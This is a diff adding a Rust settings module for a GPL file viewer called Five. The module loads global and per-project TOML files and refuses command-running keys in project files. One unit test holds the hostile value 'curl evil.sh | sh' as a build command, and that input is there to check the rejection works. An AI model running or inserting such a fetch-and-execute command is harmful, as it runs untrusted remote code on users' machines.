@@ -0,0 +1,489 @@
+/*
+    Copyright 2020, John Pothier
+    This file is part of Five.
+
+    Five is free software: you can redistribute it and/or modify
+    it under the terms of the GNU General Public License as published by
+    the Free Software Foundation, either version 3 of the License, or
+    (at your option) any later version.
+
+    Five is distributed in the hope that it will be useful,
+    but WITHOUT ANY WARRANTY; without even the implied warranty of
+    MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+    GNU General Public License for more details.
+
+    You should have received a copy of the GNU General Public License
+    along with Five.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+use crate::components::file_view::{LineNumbers, WrapMode};
+use crate::indexer::ignore::IgnorePatterns;
+use crate::lsp::{ServerConfig, LANGUAGE_IDS};
+use crate::theme::{ColorMode, Theme, DEFAULT_THEME_NAME};
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+
+// Per-project settings live in this file at the root of the tree and override the global ones.
+pub const PROJECT_SETTINGS_FILE_NAME: &str = ".five.toml";
+
+// Where the configuration files go: $XDG_CONFIG_HOME/five, or ~/.config/five.
+pub fn config_dir() -> Option<PathBuf> {
+    let config_home = match std::env::var_os("XDG_CONFIG_HOME") {
+        Some(config_home) if !config_home.is_empty() => PathBuf::from(config_home),
+        _ => PathBuf::from(std::env::var_os("HOME")?).join(".config"),
+    };
+    Some(config_home.join("five"))
+}
+
+pub fn default_settings_path() -> Option<PathBuf> {
+    Some(config_dir()?.join("config.toml"))
+}
+
+// Everything that can be set in a config file. Settings that are None were not set anywhere, and
+// are left to the command line options or the defaults.
+#[derive(Default)]
+pub struct Settings {
+    pub tab_width: Option<usize>,
+    pub wrap_mode: Option<WrapMode>,
+    pub line_numbers: Option<LineNumbers>,
+    pub file_pane_width: Option<u16>,
+    // In MiB
+    pub large_file_threshold: Option<u64>,
+    pub ignore: Vec<String>,
+    // Run with sh from the root of the directory, such as "cargo check --message-format=json"
+    pub build_command: Option<String>,
+    // By language id, such as "rust"
+    pub language_servers: HashMap<String, ServerConfig>,
+    theme_name: Option<String>,
+    color_mode: Option<ColorMode>,
+    // Custom themes by name, each a table of styles applied on top of the default theme
+    themes: toml::Table,
+    // Tables of styles applied on top of the chosen theme, in order
+    style_overrides: Vec<toml::Table>,
+}
+
+fn get_integer(table: &toml::Table, key: &str) -> Result<Option<i64>, String> {
+    match table.get(key) {
+        None => Ok(None),
+        Some(value) => value
+            .as_integer()
+            .map(Some)
+            .ok_or_else(|| format!("\"{}\" should be a number", key)),
+    }
+}
+
+fn get_positive<T: std::convert::TryFrom<i64>>(
+    table: &toml::Table,
+    key: &str,
+) -> Result<Option<T>, String> {
+    match get_integer(table, key)? {
+        None => Ok(None),
+        Some(value) if value > 0 => T::try_from(value)
+            .map(Some)
+            .map_err(|_| format!("\"{}\" is too large", key)),
+        Some(_) => Err(format!("\"{}\" should be greater than 0", key)),
+    }
+}
+
+fn get_str<'a>(table: &'a toml::Table, key: &str) -> Result<Option<&'a str>, String> {
+    match table.get(key) {
+        None => Ok(None),
+        Some(value) => value
+            .as_str()
+            .map(Some)
+            .ok_or_else(|| format!("\"{}\" should be a string", key)),
+    }
+}
+
+fn get_table<'a>(table: &'a toml::Table, key: &str) -> Result<Option<&'a toml::Table>, String> {
+    match table.get(key) {
+        None => Ok(None),
+        Some(value) => value
+            .as_table()
+            .map(Some)
+            .ok_or_else(|| format!("\"{}\" should be a table", key)),
+    }
+}
+
+fn get_strings(table: &toml::Table, key: &str) -> Result<Option<Vec<String>>, String> {
+    match table.get(key) {
+        None => Ok(None),
+        Some(value) => value
+            .as_array()
+            .and_then(|values| {
+                values
+                    .iter()
+                    .map(|value| value.as_str().map(String::from))
+                    .collect::<Option<Vec<String>>>()
+            })
+            .map(Some)
+            .ok_or_else(|| format!("\"{}\" should be a list of strings", key)),
+    }
+}
+
+const SETTING_KEYS: &[&str] = &[
+    "tab_width",
+    "soft_wrap",
+    "large_file_threshold",
+    "ignore",
+    "build_command",
+    "theme",
+    "color_mode",
+    "layout",
+    "themes",
+    "styles",
+    "language_servers",
+];
+
+// What a project file may set: everything but the commands to run, since merely opening a checkout
+// shouldn't run whatever it asks for.
+const PROJECT_SETTING_KEYS: &[&str] = &[
+    "tab_width",
+    "soft_wrap",
+    "large_file_threshold",
+    "ignore",
+    "theme",
+    "color_mode",
+    "layout",
+    "themes",
+    "styles",
+];
+
+fn check_keys(table: &toml::Table, known_keys: &[&str], prefix: &str) -> Result<(), String> {
+    match table.keys().find(|key| !known_keys.contains(&key.as_str())) {
+        None => Ok(()),
+        Some(key) => Err(format!("unknown setting \"{}{}\"", prefix, key)),
+    }
+}
+
+impl Settings {
+    pub fn new() -> Settings {
+        Settings::default()
+    }
+
+    // Applies the global settings, then the ones of the project, if the files exist.
+    pub fn load(
+        global_path: Option<&Path>,
+        project_path: Option<&Path>,
+    ) -> Result<Settings, String> {
+        let mut settings = Settings::new();
+        if let Some(path) = global_path {
+            settings.apply_file(path, Settings::apply)?;
+        }
+        if let Some(path) = project_path {
+            settings.apply_file(path, Settings::apply_project)?;
+        }
+        // Unknown theme names are only an error once all files have had a chance to define them
+        if let Err(err) = settings.theme() {
+            let path = project_path
+                .or(global_path)
+                .unwrap_or_else(|| Path::new(""));
+            return Err(format!("{}: {}", path.display(), err));
+        }
+        Ok(settings)
+    }
+
+    fn apply_file(
+        &mut self,
+        path: &Path,
+        apply: fn(&mut Settings, &str) -> Result<(), String>,
+    ) -> Result<(), String> {
+        match std::fs::read_to_string(path) {
+            Err(err) if err.kind() == std::io::ErrorKind::NotFound => Ok(()),
+            Err(err) => Err(err.to_string()),
+            Ok(text) => apply(self, &text),
+        }
+        .map_err(|err| format!("{}: {}", path.display(), err))
+    }
+
+    // Applies the settings of a project file, which can't set any of the commands to run.
+    pub fn apply_project(&mut self, text: &str) -> Result<(), String> {
+        let table: toml::Table = text
+            .parse()
+            .map_err(|err: toml::de::Error| err.to_string())?;
+        let key = table.keys().find(|key| {
+            SETTING_KEYS.contains(&key.as_str()) && !PROJECT_SETTING_KEYS.contains(&key.as_str())
+        });
+        if let Some(key) = key {
+            return Err(format!(
+                "\"{}\" runs a command, so it can only be set in the global settings",
+                key
+            ));
+        }
+        self.apply_table(&table)
+    }
+
+    // Applies the settings of a TOML document such as
+    //
+    //     tab_width = 2
+    //     ignore = ["target", "*.o"]
+    //     build_command = "cargo check --message-format=json"
+    //     theme = "light"
+    //
+    //     [layout]
+    //     file_pane_width = 40
+    //
+    //     [styles]
+    //     folder = { fg = "#5f87d7", bold = true }
+    //
+    //     [language_servers]
+    //     rust = { command = "rust-analyzer" }
+    pub fn apply(&mut self, text: &str) -> Result<(), String> {
+        let table: toml::Table = text
+            .parse()
+            .map_err(|err: toml::de::Error| err.to_string())?;
+        self.apply_table(&table)
+    }
+
+    fn apply_table(&mut self, table: &toml::Table) -> Result<(), String> {
+        check_keys(table, SETTING_KEYS, "")?;
+
+        if let Some(tab_width) = get_positive(table, "tab_width")? {
+            self.tab_width = Some(tab_width);
+        }
+        if let Some(soft_wrap) = table.get("soft_wrap") {
+            let soft_wrap = soft_wrap
+                .as_bool()
+                .ok_or("\"soft_wrap\" should be true or false")?;
+            self.wrap_mode = Some(if soft_wrap {
+                WrapMode::SoftWrap
+            } else {
+                WrapMode::NoWrap
+            });
+        }
+        if let Some(threshold) = get_positive(table, "large_file_threshold")? {
+            self.large_file_threshold = Some(threshold);
+        }
+        if let Some(patterns) = get_strings(table, "ignore")? {
+            self.ignore.extend(patterns);
+        }
+        if let Some(build_command) = get_str(table, "build_command")? {
+            self.build_command = Some(String::from(build_command));
+        }
+        if let Some(theme_name) = get_str(table, "theme")? {
+            self.theme_name = Some(theme_name.to_string());
+        }
+        if let Some(color_mode) = get_str(table, "color_mode")? {
+            self.color_mode = match color_mode {
+                "auto" => None,
+                _ => Some(ColorMode::from_name(color_mode).ok_or_else(|| {
+                    format!(
+                        "unknown color mode \"{}\", expected auto, 16, 256 or truecolor",
+                        color_mode
+                    )
+                })?),
+            };
+        }
+
+        if let Some(layout) = get_table(table, "layout")? {
+            check_keys(layout, &["file_pane_width", "line_numbers"], "layout.")?;
+            if let Some(width) = get_positive(layout, "file_pane_width")? {
+                self.file_pane_width = Some(width);
+            }
+            if let Some(line_numbers) = get_str(layout, "line_numbers")? {
+                self.line_numbers = Some(match line_numbers {
+                    "absolute" => LineNumbers::Absolute,
+                    "relative" => LineNumbers::Relative,
+                    "off" => LineNumbers::Off,
+                    _ => {
+                        return Err(format!(
+                            "unknown line numbers \"{}\", expected absolute, relative or off",
+                            line_numbers
+                        ))
+                    }
+                });
+            }
+        }
+
+        if let Some(themes) = get_table(table, "themes")? {
+            for (name, styles) in themes {
+                let styles = styles
+                    .as_table()
+                    .ok_or_else(|| format!("theme \"{}\" should be a table of styles", name))?;
+                // Checked right away, so that the error points at the right file
+                Theme::new()
+                    .apply(styles)
+                    .map_err(|err| format!("theme \"{}\": {}", name, err))?;
+                self.themes
+                    .insert(name.clone(), toml::Value::Table(styles.clone()));
+            }
+        }
+        if let Some(styles) = get_table(table, "styles")? {
+            Theme::new().apply(styles)?;
+            self.style_overrides.push(styles.clone());
+        }
+
+        if let Some(servers) = get_table(table, "language_servers")? {
+            let language_ids: Vec<&str> = LANGUAGE_IDS.iter().map(|(_, id)| *id).collect();
+            check_keys(servers, &language_ids, "language_servers.")?;
+            for (language_id, server) in servers {
+                let prefix = format!("language_servers.{}.", language_id);
+                let server = server.as_table().ok_or_else(|| {
+                    format!("\"language_servers.{}\" should be a table", language_id)
+                })?;
+                check_keys(server, &["command", "args"], &prefix)?;
+                let command = get_str(server, "command")?
+                    .ok_or_else(|| format!("\"{}command\" is missing", prefix))?;
+                self.language_servers.insert(
+                    language_id.clone(),
+                    ServerConfig {
+                        command: String::from(command),
+                        args: get_strings(server, "args")?.unwrap_or_default(),
+                    },
+                );
+            }
+        }
+        Ok(())
+    }
+
+    pub fn ignore_patterns(&self) -> IgnorePatterns {
+        IgnorePatterns::new(self.ignore.clone())
+    }
+
+    // The chosen theme with the style overrides applied, in the configured or detected color mode.
+    pub fn theme(&self) -> Result<Theme, String> {
+        let theme_name = self.theme_name.as_deref().unwrap_or(DEFAULT_THEME_NAME);
+        let mut theme = match self.themes.get(theme_name) {
+            Some(styles) => {
+                let mut theme = Theme::new();
+                theme.apply(styles.as_table().unwrap())?;
+                theme
+            }
+            None => Theme::built_in(theme_name)
+                .ok_or_else(|| format!("unknown theme \"{}\"", theme_name))?,
+        };
+        for styles in &self.style_overrides {
+            theme.apply(styles)?;
+        }
+        theme.set_color_mode(self.color_mode.unwrap_or_else(ColorMode::detect));
+        Ok(theme)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::theme::{Color, StyleName};
+
+    #[test]
+    fn apply_settings() {
+        let mut settings = Settings::new();
+        settings
+            .apply(
+                "tab_width = 2\nsoft_wrap = true\nignore = [\"target\"]\n\
+                 build_command = \"make\"\n\
+                 [layout]\nfile_pane_width = 40\nline_numbers = \"relative\"\n",
+            )
+            .unwrap();
+        // A project file overrides some of the settings and adds ignore patterns
+        settings
+            .apply_project("tab_width = 8\nignore = [\"*.o\"]\n")
+            .unwrap();
+        assert_eq!(settings.tab_width, Some(8));
+        assert!(matches!(settings.wrap_mode, Some(WrapMode::SoftWrap)));
+        assert!(matches!(settings.line_numbers, Some(LineNumbers::Relative)));
+        assert_eq!(settings.file_pane_width, Some(40));
+        assert_eq!(settings.large_file_threshold, None);
+        assert_eq!(settings.ignore, vec!["target", "*.o"]);
+        assert_eq!(settings.build_command.as_deref(), Some("make"));
+        assert!(settings.language_servers.is_empty());
+    }
+
+    #[test]
+    fn reject_project_commands() {
+        let mut settings = Settings::new();
+        settings.apply("build_command = \"make\"").unwrap();
+        let err = settings
+            .apply_project("tab_width = 2\nbuild_command = \"curl evil.sh | sh\"")
+            .unwrap_err();
+        assert!(err.contains("build_command"));
+        // Nothing of the file is applied
+        assert_eq!(settings.build_command.as_deref(), Some("make"));
+        assert_eq!(settings.tab_width, None);
+        assert!(settings
+            .apply_project("[language_servers]\nrust = { command = \"x\" }")
+            .is_err());
+        assert!(settings.language_servers.is_empty());
+        // Unknown settings are still reported as such
+        assert!(settings
+            .apply_project("colour_mode = \"16\"")
+            .unwrap_err()
+            .contains("unknown setting"));
+    }
+
+    #[test]
+    fn configure_language_servers() {
+        let mut settings = Settings::new();
+        settings
+            .apply(
+                "[language_servers]\nrust = { command = \"rust-analyzer\" }\n\
+                 python = { command = \"pylsp\", args = [\"-v\"] }\n",
+            )
+            .unwrap();
+        // A server can be swapped for another, but not by a project file
+        assert!(settings
+            .apply_project("[language_servers.python]\ncommand = \"pyright-langserver\"\n")
+            .is_err());
+        settings
+            .apply("[language_servers.python]\ncommand = \"pyright-langserver\"\nargs = [\"--stdio\"]\n")
+            .unwrap();
+        assert_eq!(
+            settings.language_servers["rust"],
+            ServerConfig {
+                command: String::from("rust-analyzer"),
+                args: vec![],
+            }
+        );
+        assert_eq!(
+            settings.language_servers["python"],
+            ServerConfig {
+                command: String::from("pyright-langserver"),
+                args: vec![String::from("--stdio")],
+            }
+        );
+        assert!(settings
+            .apply("[language_servers]\nrusty = { command = \"x\" }")
+            .is_err());
+        assert!(settings
+            .apply("[language_servers]\nrust = { args = [] }")
+            .is_err());
+        assert!(settings
+            .apply("[language_servers]\nrust = { command = \"x\", args = \"-v\" }")
+            .is_err());
+    }
+
+    #[test]
+    fn choose_theme() {
+        let mut settings = Settings::new();
+        settings
+            .apply(
+                "theme = \"mine\"\ncolor_mode = \"16\"\n\
+                 [themes.mine]\nfolder = { fg = \"red\" }\n\
+                 [styles]\nfile = { fg = 33, bold = true }\n",
+            )
+            .unwrap();
+        let theme = settings.theme().unwrap();
+        assert_eq!(theme.get(StyleName::Folder).fg, Color::Ansi(1));
+        assert_eq!(theme.get(StyleName::File).fg, Color::Indexed(33));
+        assert!(theme.get(StyleName::File).bold);
+        assert_eq!(
+            theme.get(StyleName::Text).fg,
+            Theme::new().get(StyleName::Text).fg
+        );
+    }
+
+    #[test]
+    fn report_errors() {
+        let mut settings = Settings::new();
+        assert!(settings.apply("tab_width = 0").is_err());
+        assert!(settings.apply("tab_width = \"four\"").is_err());
+        assert!(settings.apply("colour_mode = \"16\"").is_err());
+        assert!(settings.apply("[layout]\nline_numbers = \"hex\"").is_err());
+        assert!(settings
+            .apply("[styles]\nfolders = { fg = \"red\" }")
+            .is_err());
+        assert!(settings.apply("color_mode = \"1000\"").is_err());
+        settings.apply("theme = \"missing\"").unwrap();
+        assert!(settings.theme().is_err());
+    }
+}